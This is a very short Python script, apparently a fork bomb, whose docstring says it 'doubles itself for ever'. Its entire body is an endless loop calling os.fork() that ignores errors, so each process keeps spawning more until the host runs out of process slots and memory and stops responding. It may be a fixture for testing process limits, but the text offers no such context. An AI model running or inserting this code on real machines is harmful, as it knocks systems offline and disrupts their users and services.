"""Doubles itself for ever."""

# mypy: ignore-errors
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
